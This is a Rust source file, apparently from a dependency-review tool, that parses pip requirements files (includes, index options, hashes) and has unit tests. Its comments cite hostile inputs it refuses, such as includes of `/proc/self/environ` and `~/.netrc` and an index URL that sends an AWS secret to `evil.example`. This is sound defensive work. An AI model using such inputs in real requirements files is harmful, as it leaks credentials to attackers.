//! requirements.txt as pip reads it (pip-compile, `uv pip compile` and `uv export` output
//! included): logical lines, options, includes (`-r`, `-c`) relative to the including file,
//! index options, and each requirement classified as a pin, an unpinned requirement or a
//! direct source. Hashes lock files without naming them: each `--hash=sha256:…` of a pin
//! becomes an [`Artifact`] with an empty filename.

pub(super) mod decode;
mod lines;
mod options;
mod requirement;

use std::path::{Path, PathBuf};

use super::common::{error_at, Assembly};
use super::hashes::{self, Accepted};
use super::text;
use super::{
    Artifact, IndexKind, Location, LockError, LockFormat, LockedPackage, Lockfile, Source, Unpinned,
};
use crate::dist::PackageName;
use crate::url::SecretUrl;
use requirement::Classified;

/// How deep `-r`/`-c` includes may nest, how many files one run may read, and how many
/// bytes in all: includes can fan out (a file including another twice, nested), so each
/// bound is needed on its own.
const MAX_INCLUDE_DEPTH: usize = 32;
const MAX_INCLUDED_FILES: usize = 1000;
const MAX_TOTAL_BYTES: usize = 2 * super::MAX_LOCKFILE_BYTES as usize;

/// Where included files come from.
pub(crate) trait Includes {
    /// The decoded text of `path`, included from `from`.
    fn load(&mut self, path: &Path, from: &Location) -> Result<String, LockError>;
    /// An identity for cycle detection (the canonical path where there is a filesystem).
    fn identity(&self, path: &Path) -> PathBuf {
        path.to_path_buf()
    }
}

/// Includes read from the filesystem, each bounded like a lockfile and confined to the
/// tree of the file that started the read (`-r /proc/self/environ`, `-r ~/.netrc`, a FIFO
/// and `-r ../../outside.txt` are refused).
pub(crate) struct FsIncludes {
    pub(crate) root: PathBuf,
}

impl Includes for FsIncludes {
    fn load(&mut self, path: &Path, from: &Location) -> Result<String, LockError> {
        let bytes = text::read_limited(path, &self.root).map_err(|err| match err {
            LockError::Io { source, .. } => error_at(
                from,
                format!(
                    "cannot read included file `{}`: {source}: fix the `-r`/`-c` path (it is relative to this file)",
                    path.display()
                ),
            ),
            LockError::Invalid { message, .. } => error_at(
                from,
                format!("cannot include `{}`: it {message}", path.display()),
            ),
            other => other,
        })?;
        text::decode(path, &bytes, true)
    }

    fn identity(&self, path: &Path) -> PathBuf {
        std::fs::canonicalize(path).unwrap_or_else(|_| path.to_path_buf())
    }
}

/// No filesystem ([`super::parse_str`]): an include is an error.
pub(crate) struct NoIncludes;

impl Includes for NoIncludes {
    fn load(&mut self, path: &Path, from: &Location) -> Result<String, LockError> {
        Err(error_at(
            from,
            format!(
                "includes `{}`, which needs the filesystem: read the file with `lockfile::read` instead of `parse_str`",
                path.display()
            ),
        ))
    }
}

/// A package source an option line names, and where.
#[derive(Debug, Clone)]
struct Named {
    url: String,
    kind: IndexKind,
    location: Location,
}

/// pip's package-finder and session settings as the file's option lines change them
/// (`handle_option_line`): what pip ends up using, each with the line that named it.
#[derive(Debug)]
struct Finder {
    /// `finder.index_urls`: PyPI until an `--index-url` replaces it.
    index_urls: Vec<Named>,
    /// Whether `index_urls` still holds pip's default (PyPI, named by no line).
    default_index: bool,
    no_index: bool,
    find_links: Vec<Named>,
    trusted_hosts: Vec<Named>,
    /// The first option line that named a source: where the default PyPI is recorded
    /// when the file names others beside it.
    first_named: Option<Location>,
}

impl Finder {
    fn new() -> Self {
        Finder {
            index_urls: Vec::new(),
            default_index: true,
            no_index: false,
            find_links: Vec::new(),
            trusted_hosts: Vec::new(),
            first_named: None,
        }
    }

    /// pip's `handle_option_line`, finder and session part.
    fn apply(&mut self, options: &options::LineOptions, location: &Location) {
        let named = |url: &String, kind| Named {
            url: url.clone(),
            kind,
            location: location.clone(),
        };
        let names_a_source = options.no_index
            || options.index_url.is_some()
            || !options.extra_index_urls.is_empty()
            || !options.find_links.is_empty()
            || !options.trusted_hosts.is_empty();
        if names_a_source && self.first_named.is_none() {
            self.first_named = Some(location.clone());
        }
        if options.no_index {
            self.no_index = true;
            self.index_urls.clear();
            self.default_index = false;
        }
        if let Some(url) = &options.index_url {
            if !self.no_index {
                self.index_urls = vec![named(url, IndexKind::Index)];
                self.default_index = false;
            }
        }
        if !self.no_index {
            for url in &options.extra_index_urls {
                self.index_urls.push(named(url, IndexKind::ExtraIndex));
            }
        }
        // pip takes only the first `-f` of a line
        if let Some(link) = options.find_links.first() {
            self.find_links.push(named(link, IndexKind::FindLinks));
        }
        for host in &options.trusted_hosts {
            // pip trusts `host[:port]`; userinfo never reaches the model (it has no scheme,
            // so `SecretUrl` would not know to redact it)
            let host = host
                .rsplit_once('@')
                .map_or(host.as_str(), |(_, host)| host);
            self.trusted_hosts
                .push(named(&host.to_string(), IndexKind::TrustedHost));
        }
    }

    /// The index each pin is fetched from first.
    fn primary(&self) -> &str {
        if self.default_index {
            return super::PYPI_SIMPLE;
        }
        self.index_urls
            .first()
            .or(self.find_links.first())
            .map_or(super::PYPI_SIMPLE, |named| named.url.as_str())
    }

    /// Every source pip will use, in order: indexes (PyPI first while it is the default),
    /// find-links locations, trusted hosts. Empty when the file names none.
    fn sources(&self) -> Vec<Named> {
        let Some(first) = &self.first_named else {
            return Vec::new();
        };
        let mut out = Vec::new();
        if self.default_index {
            out.push(Named {
                url: super::PYPI_SIMPLE.to_string(),
                kind: IndexKind::Index,
                location: first.clone(),
            });
        }
        out.extend(self.index_urls.iter().cloned());
        out.extend(self.find_links.iter().cloned());
        out.extend(self.trusted_hosts.iter().cloned());
        out
    }
}

struct Reader<'a> {
    includes: &'a mut dyn Includes,
    var: &'a dyn Fn(&str) -> Option<String>,
    assembly: Assembly,
    finder: Finder,
    /// Identities of the files being read, outermost first (cycle detection).
    stack: Vec<PathBuf>,
    files_read: usize,
    bytes_read: usize,
    /// The `--hash` options of constraint-file lines, per project, merged as pip merges
    /// constraints (`Constraint.__and__`).
    constraint_hashes: ConstraintHashes,
}

/// pip hands a constraint's `--hash` options to a requirement of that project that has none
/// of its own (`Factory._iter_found_candidates` in pip 26): those hashes are then what the
/// downloaded file is checked against. Several constraints of one project keep, per
/// algorithm, the digests they all name (`Constraint.__and__`); one without hashes changes
/// nothing. pip skips a constraint whose marker does not match its machine, which pubgate
/// cannot evaluate: such a constraint's hashes are added, never intersected, so that the
/// record is a superset of what pip accepts on any machine.
#[derive(Default)]
struct ConstraintHashes(std::collections::HashMap<String, ProjectConstraints>);

#[derive(Default)]
struct ProjectConstraints {
    /// pip's merge: per algorithm, the digests every constraint with hashes names.
    merged: Option<Vec<(String, String)>>,
    /// Every digest any constraint names, in order, and as a set (linear).
    union: Vec<(String, String)>,
    union_seen: std::collections::HashSet<(String, String)>,
    /// Whether a constraint with hashes has a marker (pip may skip it).
    gated: bool,
}

impl ConstraintHashes {
    fn add(&mut self, name: &str, hashes: &[(String, String)], has_marker: bool) {
        if name.is_empty() || hashes.is_empty() {
            return;
        }
        let hashes: Vec<(String, String)> = hashes
            .iter()
            .map(|(algorithm, digest)| (algorithm.clone(), digest.to_ascii_lowercase()))
            .collect();
        let project = self.0.entry(name.to_string()).or_default();
        project.gated |= has_marker;
        for hash in &hashes {
            if project.union_seen.insert(hash.clone()) {
                project.union.push(hash.clone());
            }
        }
        project.merged = Some(match project.merged.take() {
            None => hashes,
            Some(mut known) => {
                let algorithms: std::collections::HashSet<&String> =
                    hashes.iter().map(|(algorithm, _)| algorithm).collect();
                let digests: std::collections::HashSet<&(String, String)> = hashes.iter().collect();
                known.retain(|entry| algorithms.contains(&entry.0) && digests.contains(entry));
                known
            }
        });
    }

    /// The hashes pip checks a project's unhashed pin against (a superset when a marker
    /// could make pip skip a constraint).
    fn of(&self, name: &str) -> Option<&[(String, String)]> {
        let project = self.0.get(name)?;
        if project.gated {
            Some(&project.union)
        } else {
            project.merged.as_deref()
        }
    }
}

/// Reads a requirements file and everything it includes.
pub(super) fn parse(
    text: &str,
    path: &Path,
    includes: &mut dyn Includes,
) -> Result<Lockfile, LockError> {
    let allowed = expandable_variables();
    let var = |name: &str| {
        allowed
            .iter()
            .any(|a| a == name)
            .then(|| std::env::var(name).ok())
            .flatten()
    };
    parse_with_env(text, path, includes, &var)
}

/// The environment variables a requirements file may expand with `${NAME}`: only those
/// listed in `PUBGATE_EXPAND_ENV` (comma- or space-separated). pip expands any variable,
/// but the file under review is untrusted: `--index-url https://${AWS_SECRET_ACCESS_KEY}@evil.example/simple`
/// would send the secret to its author's server, and a direct URL or path would print it
/// in the report. Unlisted `${NAME}` stay as written, as pip leaves unset ones.
pub const EXPAND_ENV_VARIABLE: &str = "PUBGATE_EXPAND_ENV";

fn expandable_variables() -> Vec<String> {
    std::env::var(EXPAND_ENV_VARIABLE)
        .unwrap_or_default()
        .split([',', ' ', '\t', '\n'])
        .filter(|n| !n.is_empty())
        .map(str::to_string)
        .collect()
}

fn parse_with_env(
    text: &str,
    path: &Path,
    includes: &mut dyn Includes,
    var: &dyn Fn(&str) -> Option<String>,
) -> Result<Lockfile, LockError> {
    let mut assembly = Assembly::new(path, LockFormat::Requirements);
    assembly.check_versions = false;
    let identity = includes.identity(path);
    let mut reader = Reader {
        includes,
        var,
        assembly,
        finder: Finder::new(),
        stack: vec![identity],
        files_read: 1,
        bytes_read: text.len(),
        constraint_hashes: ConstraintHashes::default(),
    };
    reader.read_file(text, path, false)?;
    let Reader {
        mut assembly,
        finder,
        constraint_hashes,
        ..
    } = reader;
    for package in &mut assembly.packages {
        if !package.source.is_index() || !package.artifacts.is_empty() {
            continue;
        }
        if let Some(hashes) = constraint_hashes.of(&package.name) {
            // checked when the constraint line was read
            let digests = hashes
                .iter()
                .filter_map(|(algorithm, digest)| {
                    hashes::check(algorithm, digest, Accepted::PipOption).ok()
                })
                .collect::<Vec<_>>();
            package.artifacts = hashes::artifacts("", None, digests);
        }
    }
    // Index options apply to the whole run wherever they appear: set the source at the end.
    let primary = finder.primary().to_string();
    for package in &mut assembly.packages {
        if let Source::Index { url } = &mut package.source {
            *url = SecretUrl::new(primary.clone());
        }
    }
    for named in finder.sources() {
        assembly.add_index(&named.url, named.kind, named.location);
    }
    assembly.finish()
}

impl Reader<'_> {
    fn read_file(&mut self, content: &str, path: &Path, constraint: bool) -> Result<(), LockError> {
        for line in lines::logical_lines(content) {
            let location = Location {
                path: path.to_path_buf(),
                line: line.number,
            };
            let expanded = lines::expand_env(&line.text, self.var);
            self.read_line(&expanded, &line.text, &location, constraint)?;
        }
        Ok(())
    }

    fn read_line(
        &mut self,
        line: &str,
        as_written: &str,
        location: &Location,
        constraint: bool,
    ) -> Result<(), LockError> {
        let expanded = line != as_written;
        let invalid = |reason: String| {
            // an expanded `${VAR}` may be a secret: never echo what it expanded to
            let reason = if expanded {
                "it is invalid once its `${…}` variables are expanded (details hidden, they may be secret)".to_string()
            } else {
                reason
            };
            error_at(
                location,
                format!("invalid requirements line `{as_written}`: {reason}: fix the line (pip rejects it too)"),
            )
        };
        let (args, options_text) = options::break_args_options(line);
        let tokens = options::shlex_split(&options_text)
            .map_err(|reason| invalid(format!("cannot split its options: {reason}")))?;
        let options = options::parse_options(&tokens).map_err(invalid)?;

        if !args.is_empty() {
            let classified = requirement::classify(&args).map_err(invalid)?;
            if constraint {
                for (algorithm, digest) in &options.hashes {
                    hashes::check(algorithm, digest, Accepted::PipOption).map_err(invalid)?;
                }
                // pip's resolver refuses these constraint forms (`check_invalid_constraint_type`)
                if requirement::has_extras(&args) {
                    return Err(invalid("constraints cannot have extras".into()));
                }
                match &classified {
                    Classified::Pin { name, marker, .. } => {
                        self.constraint_hashes
                            .add(name, &options.hashes, marker.is_some());
                    }
                    Classified::Unpinned { name, .. } => {
                        let marker = args.contains(';');
                        self.constraint_hashes.add(name, &options.hashes, marker);
                    }
                    Classified::Direct { name, .. } if name.is_empty() => {
                        return Err(invalid(
                            "unnamed requirements are not allowed as constraints".into(),
                        ));
                    }
                    Classified::Direct { .. } => {}
                }
            } else {
                self.add_requirement(classified, &options, location)
                    .map_err(invalid)?;
            }
            return Ok(());
        }
        if let Some(editable) = options.editables.first() {
            if constraint {
                // pip's `install_req_from_editable`
                return Err(invalid(
                    "editable requirements are not allowed as constraints".into(),
                ));
            }
            let (name, source) = requirement::classify_editable(editable).map_err(invalid)?;
            {
                self.assembly.packages.push(LockedPackage {
                    name: PackageName::new(&name),
                    version: None,
                    source,
                    artifacts: Vec::new(),
                    marker: None,
                    location: location.clone(),
                    attestation_identities: Vec::new(),
                });
            }
            return Ok(());
        }
        // pip recurses into `-r` (else `-c`) and ignores the line's other options
        if let Some(include) = options.requirements.first() {
            return self.include(include, location, false);
        }
        if let Some(include) = options.constraints.first() {
            return self.include(include, location, true);
        }
        // pip's `PipSession.add_trusted_host` refuses a host it cannot parse
        for host in &options.trusted_hosts {
            options::check_trusted_host(host).map_err(invalid)?;
        }
        self.finder.apply(&options, location);
        Ok(())
    }

    fn add_requirement(
        &mut self,
        classified: Classified,
        options: &options::LineOptions,
        location: &Location,
    ) -> Result<(), String> {
        // every `--hash` pip accepts (sha256, sha384, sha512): pip takes a file matching any
        let mut digests = Vec::new();
        for (algorithm, digest) in &options.hashes {
            digests.push(hashes::check(algorithm, digest, Accepted::PipOption)?);
        }
        match classified {
            Classified::Pin {
                name,
                version,
                marker,
            } => self.assembly.packages.push(LockedPackage {
                name: PackageName::new(&name),
                version: Some(version),
                // replaced by the file's primary index once every line is read
                source: Source::Index {
                    url: SecretUrl::new(super::PYPI_SIMPLE),
                },
                artifacts: hashes::artifacts("", None, digests),
                marker,
                location: location.clone(),
                attestation_identities: Vec::new(),
            }),
            Classified::Unpinned { name, specifier } => self.assembly.unpinned.push(Unpinned {
                name,
                specifier,
                location: location.clone(),
            }),
            Classified::Direct {
                name,
                version,
                source,
                archive,
                marker,
            } => {
                if matches!(source, Source::Git { .. }) && !digests.is_empty() {
                    // pip refuses to install it (`VcsHashUnsupported`): it cannot hash a checkout
                    return Err(
                        "pip cannot check hashes of a version-control checkout and refuses to install it: remove the `--hash` options or pin an archive".into(),
                    );
                }
                let artifacts = match archive {
                    Some(archive) => {
                        // pip adds the URL's hash to the `--hash` ones (`InstallRequirement.hashes`)
                        if let Some(link_hash) = archive.link_hash {
                            digests.insert(0, link_hash);
                        }
                        let url = archive.url.map(SecretUrl::new);
                        if digests.is_empty() {
                            vec![Artifact {
                                filename: archive.filename,
                                sha256: None,
                                other_hashes: Vec::new(),
                                url,
                            }]
                        } else {
                            hashes::artifacts(&archive.filename, url.as_ref(), digests)
                        }
                    }
                    // a source tree, a VCS checkout or a URL that names no archive: the
                    // source itself is what the policy judges
                    None => Vec::new(),
                };
                self.assembly.packages.push(LockedPackage {
                    name: PackageName::new(&name),
                    version,
                    source,
                    artifacts,
                    marker,
                    location: location.clone(),
                    attestation_identities: Vec::new(),
                });
            }
        }
        Ok(())
    }

    fn include(
        &mut self,
        target: &str,
        from: &Location,
        constraint: bool,
    ) -> Result<(), LockError> {
        let flag = if constraint { "-c" } else { "-r" };
        if requirement::is_url(target) {
            return Err(error_at(
                from,
                format!(
                    "`{flag} {}` includes a URL, which pubgate does not fetch: download the file and include the local copy",
                    crate::url::redact(target)
                ),
            ));
        }
        let path = from
            .path
            .parent()
            .map_or_else(|| PathBuf::from(target), |dir| dir.join(target));
        if self.stack.len() > MAX_INCLUDE_DEPTH {
            return Err(error_at(
                from,
                format!("`{flag} {target}` nests includes more than {MAX_INCLUDE_DEPTH} deep: flatten them"),
            ));
        }
        self.files_read += 1;
        if self.files_read > MAX_INCLUDED_FILES {
            return Err(error_at(
                from,
                format!("`{flag} {target}`: more than {MAX_INCLUDED_FILES} included files: flatten the includes"),
            ));
        }
        let identity = self.includes.identity(&path);
        if self.stack.contains(&identity) {
            return Err(error_at(
                from,
                format!(
                    "`{flag} {target}` includes `{}` again, which is already being read: remove the include cycle",
                    path.display()
                ),
            ));
        }
        let content = self.includes.load(&path, from)?;
        self.bytes_read += content.len();
        if self.bytes_read > MAX_TOTAL_BYTES {
            return Err(error_at(
                from,
                format!(
                    "`{flag} {target}`: the included files add up to more than {} MiB: flatten the includes",
                    MAX_TOTAL_BYTES / (1024 * 1024)
                ),
            ));
        }
        self.stack.push(identity);
        let result = self.read_file(&content, &path, constraint);
        self.stack.pop();
        result
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;

    /// Includes served from memory, for include and cycle tests without a filesystem.
    struct MemoryIncludes(HashMap<PathBuf, String>);

    impl Includes for MemoryIncludes {
        fn load(&mut self, path: &Path, from: &Location) -> Result<String, LockError> {
            self.0
                .get(&self.identity(path))
                .cloned()
                .ok_or_else(|| error_at(from, format!("no file `{}`", path.display())))
        }

        /// `a/b/../c` → `a/c`, as the filesystem would resolve it.
        fn identity(&self, path: &Path) -> PathBuf {
            let mut out = PathBuf::new();
            for part in path.components() {
                match part {
                    std::path::Component::ParentDir => {
                        out.pop();
                    }
                    other => out.push(other),
                }
            }
            out
        }
    }

    fn parse_files(files: &[(&str, &str)]) -> Result<Lockfile, LockError> {
        let mut includes = MemoryIncludes(
            files
                .iter()
                .map(|(path, text)| (PathBuf::from(path), text.to_string()))
                .collect(),
        );
        let (path, text) = files[0];
        let var = |name: &str| (name == "PIP_TOKEN").then(|| "tok".to_string());
        parse_with_env(text, Path::new(path), &mut includes, &var)
    }

    fn parse_one(text: &str) -> Result<Lockfile, LockError> {
        parse_files(&[("dir/requirements.txt", text)])
    }

    fn pins(lock: &Lockfile) -> Vec<(String, String, u32)> {
        lock.packages
            .iter()
            .filter(|p| p.source.is_index())
            .map(|p| {
                (
                    p.name.to_string(),
                    p.version.clone().unwrap_or_default(),
                    p.location.line,
                )
            })
            .collect()
    }

    const H1: &str = "1111111111111111111111111111111111111111111111111111111111111111";
    const H2: &str = "2222222222222222222222222222222222222222222222222222222222222222";

    #[test]
    fn pip_compile_layout_with_hashes_and_via_comments() {
        let text = format!(
            "#\n# This file is autogenerated by pip-compile\n#\nclick==8.1.7 \\\n    --hash=sha256:{H1} \\\n    --hash=sha256:{H2}\n    # via\n    #   -r requirements.in\n    #   typer\nrich==13.0 \\\n    --hash=sha256:{H1}\n    # via typer\n\n# The following packages are considered to be unsafe in a requirements file:\n# pip\n"
        );
        let lock = parse_one(&text).unwrap();
        assert_eq!(
            pins(&lock),
            vec![
                ("click".into(), "8.1.7".into(), 4),
                ("rich".into(), "13.0".into(), 10)
            ]
        );
        let click = &lock.packages[0];
        assert_eq!(click.artifacts.len(), 2);
        assert_eq!(click.artifacts[0].filename, "");
        assert_eq!(click.artifacts[1].sha256.as_deref(), Some(H2));
        assert!(lock.indexes.is_empty());
        assert_eq!(
            click.source,
            Source::Index {
                url: SecretUrl::new(crate::lockfile::PYPI_SIMPLE)
            }
        );
    }

    #[test]
    fn hash_without_equals_and_markers_before_options() {
        let text = format!(
            "urllib3==1.26.15 ; python_version >= \"3.8\" and python_version < \"4\" \\\n    --hash sha256:{H1}\nwerkzeug==2.2.3 ; python_version >= \"3.8\" --hash=sha256:{H2}\n"
        );
        let lock = parse_one(&text).unwrap();
        assert_eq!(lock.packages[0].artifacts[0].sha256.as_deref(), Some(H1));
        assert_eq!(
            lock.packages[0].marker.as_deref(),
            Some("python_version >= \"3.8\" and python_version < \"4\"")
        );
        assert_eq!(lock.packages[1].artifacts[0].sha256.as_deref(), Some(H2));
    }

    #[test]
    fn a_comment_swallows_a_continued_hash() {
        // pip joins first, then strips the comment, hash included
        let text = format!("a==1 # pinned \\\n    --hash=sha256:{H1}\n");
        let lock = parse_one(&text).unwrap();
        assert!(lock.packages[0].artifacts.is_empty());
    }

    #[test]
    fn index_options_apply_to_every_pin_wherever_they_appear() {
        let text = "a==1\n--index-url https://${PIP_TOKEN}@mirror.example/simple\n--extra-index-url https://extra.example/simple\n";
        let lock = parse_one(text).unwrap();
        assert_eq!(
            lock.packages[0].source,
            Source::Index {
                url: SecretUrl::new("https://tok@mirror.example/simple")
            }
        );
        let indexes: Vec<&str> = lock.indexes.iter().map(|i| i.url.expose()).collect();
        assert_eq!(
            indexes,
            vec![
                "https://tok@mirror.example/simple",
                "https://extra.example/simple"
            ]
        );
        // an extra index alone keeps PyPI first
        let lock = parse_one("a==1\n--extra-index-url https://extra.example/simple\n").unwrap();
        let indexes: Vec<String> = lock.indexes.iter().map(|i| i.url.to_string()).collect();
        assert_eq!(
            indexes,
            vec!["https://pypi.org/simple", "https://extra.example/simple"]
        );
        // --no-index and find-links
        let lock = parse_one("--no-index\n-f ./wheels\n-i https://ignored.example/simple\na==1\n")
            .unwrap();
        assert_eq!(
            lock.packages[0].source,
            Source::Index {
                url: SecretUrl::new("./wheels")
            }
        );
    }

    #[test]
    fn includes_resolve_relative_to_the_including_file() {
        let lock = parse_files(&[
            (
                "dir/requirements.txt",
                "--requirement sub/b.txt\nnumpy==1.24.2\n",
            ),
            ("dir/sub/b.txt", "-r ../c.txt\ntomli"),
            ("dir/c.txt", "six==1.16.0\n"),
        ])
        .unwrap();
        assert_eq!(
            pins(&lock),
            vec![
                ("six".into(), "1.16.0".into(), 1),
                ("numpy".into(), "1.24.2".into(), 2)
            ]
        );
        assert_eq!(
            lock.packages[0].location.path,
            Path::new("dir/sub/../c.txt")
        );
        assert_eq!(lock.unpinned[0].name, "tomli");
        assert_eq!(lock.unpinned[0].location.path, Path::new("dir/sub/b.txt"));
    }

    #[test]
    fn constraint_files_add_no_requirements_but_their_index_options_count() {
        let lock = parse_files(&[
            ("dir/requirements.txt", "-c constraints.txt\nrequests\n"),
            (
                "dir/constraints.txt",
                "requests==2.31.0\nurllib3==2.0\n-i https://m.example/simple\n",
            ),
        ])
        .unwrap();
        assert!(lock.packages.is_empty());
        assert_eq!(lock.unpinned.len(), 1);
        assert_eq!(lock.indexes[0].url.expose(), "https://m.example/simple");
    }

    #[test]
    fn constraint_hashes_become_the_hashes_of_an_unhashed_pin() {
        let sha512 = "5".repeat(128);
        let lock = parse_files(&[
            (
                "dir/requirements.txt",
                &format!("-c constraints.txt\na==1\nb==1 --hash=sha256:{H1}\n"),
            ),
            (
                "dir/constraints.txt",
                &format!("a>=1 --hash=sha512:{sha512} --hash=sha256:{H2}\nA==1 --hash=sha256:{H2}\nb==1 --hash=sha256:{H2}\n"),
            ),
        ])
        .unwrap();
        // pip keeps, per algorithm, what every constraint of `a` names: sha256 H2 only
        assert_eq!(lock.packages[0].artifacts.len(), 1);
        assert_eq!(lock.packages[0].artifacts[0].sha256.as_deref(), Some(H2));
        // a pin with its own hashes keeps them (the constraint only narrows)
        assert_eq!(lock.packages[1].artifacts.len(), 1);
        assert_eq!(lock.packages[1].artifacts[0].sha256.as_deref(), Some(H1));
        let lock = parse_files(&[
            ("dir/requirements.txt", "-c constraints.txt\na==1\n"),
            (
                "dir/constraints.txt",
                &format!("a==1 --hash=sha512:{sha512}\n"),
            ),
        ])
        .unwrap();
        assert_eq!(
            lock.packages[0].artifacts[0].other_hashes[0].to_string(),
            format!("sha512:{sha512}")
        );
        let err = parse_files(&[
            ("dir/requirements.txt", "-c constraints.txt\na==1\n"),
            ("dir/constraints.txt", "a==1 --hash=sha512:abc\n"),
        ])
        .unwrap_err();
        assert!(
            err.to_string().starts_with("dir/constraints.txt:1:"),
            "{err}"
        );
    }

    #[test]
    fn include_cycles_and_missing_includes_are_errors() {
        let err = parse_files(&[
            ("dir/requirements.txt", "-r a.txt\n"),
            ("dir/a.txt", "-r requirements.txt\n"),
        ])
        .unwrap_err();
        assert!(err.to_string().contains("already being read"), "{err}");
        assert!(err.to_string().starts_with("dir/a.txt:1:"), "{err}");
        let err = parse_one("-r missing.txt\n").unwrap_err();
        assert!(err.to_string().contains("no file"), "{err}");
        let err = parse_str_includes("-r other.txt\n");
        assert!(err.contains("needs the filesystem"), "{err}");
        let err = parse_one("-r https://example.com/r.txt\n").unwrap_err();
        assert!(err.to_string().contains("does not fetch"), "{err}");
    }

    #[test]
    fn fan_out_includes_are_bounded() {
        // each file includes the next one twice: 2^20 reads without a bound
        let names: Vec<String> = (0..20).map(|i| format!("dir/f{i}.txt")).collect();
        let mut files: Vec<(String, String)> = (0..20)
            .map(|i| {
                let next = format!("f{}.txt", i + 1);
                (names[i].clone(), format!("-r {next}\n-r {next}\na==1\n"))
            })
            .collect();
        files.push(("dir/f20.txt".to_string(), "b==2\n".to_string()));
        let refs: Vec<(&str, &str)> = files
            .iter()
            .map(|(p, t)| (p.as_str(), t.as_str()))
            .collect();
        let err = parse_files(&refs).unwrap_err().to_string();
        assert!(err.contains("more than 1000 included files"), "{err}");
    }

    fn parse_str_includes(text: &str) -> String {
        parse(text, Path::new("r.txt"), &mut NoIncludes)
            .unwrap_err()
            .to_string()
    }

    #[test]
    fn editables_vcs_urls_and_paths_are_direct_sources() {
        let text = "-e .\n-e ./libs/corelib[dev]\n-e git+https://h/r.git#egg=r\nidna @ https://h/idna-3.20-py3-none-any.whl\n./wheels/x-1.0-py3-none-any.whl\n";
        let lock = parse_one(text).unwrap();
        let kinds: Vec<(&str, &str)> = lock
            .packages
            .iter()
            .map(|p| (p.name.as_str(), p.source.kind()))
            .collect();
        assert_eq!(
            kinds,
            vec![
                ("", "editable"),
                ("", "editable"),
                ("r", "git"),
                ("idna", "url"),
                ("x", "path")
            ]
        );
        assert_eq!(
            lock.packages[1].source,
            Source::Editable {
                path: "./libs/corelib".into()
            }
        );
        assert_eq!(
            lock.packages[3].artifacts[0].filename,
            "idna-3.20-py3-none-any.whl"
        );
        assert_eq!(lock.packages[4].version.as_deref(), Some("1.0"));
    }

    #[test]
    fn rejected_lines_name_the_file_and_line() {
        for (text, needle) in [
            ("a==1\nb=1\n", "invalid requirements line `b=1`"),
            ("a==1 --hash=md5:x\n", "allowed hash algorithms"),
            ("a==1 --hash=sha256:abc\n", "not 64 hexadecimal digits"),
            (
                "a @ git+https://h/a.git --hash=sha256:1111111111111111111111111111111111111111111111111111111111111111\n",
                "version-control checkout",
            ),
            ("--trusted-host h:x\n", "the port must be a number"),
            ("--bogus-option\n", "no such option"),
            ("a==1 --hash 'x\n", "cannot split its options"),
            (
                "-e https://h/x.tar.gz\n",
                "not a valid editable requirement",
            ),
        ] {
            let err = parse_one(text).unwrap_err().to_string();
            assert!(err.contains(needle), "{text:?}: {err}");
            assert!(err.starts_with("dir/requirements.txt:"), "{err}");
        }
        // messages show the line as written, never an expanded variable
        let err = parse_one("a==${PIP_TOKEN}\n").unwrap_err().to_string();
        assert!(
            err.contains("${PIP_TOKEN}") && !err.contains("tok"),
            "{err}"
        );
    }

    #[test]
    fn hashes_on_an_option_line_are_ignored_like_pip() {
        let lock = parse_one(&format!("--hash=sha256:{H1}\na==1\n")).unwrap();
        assert!(lock.packages[0].artifacts.is_empty());
    }
}
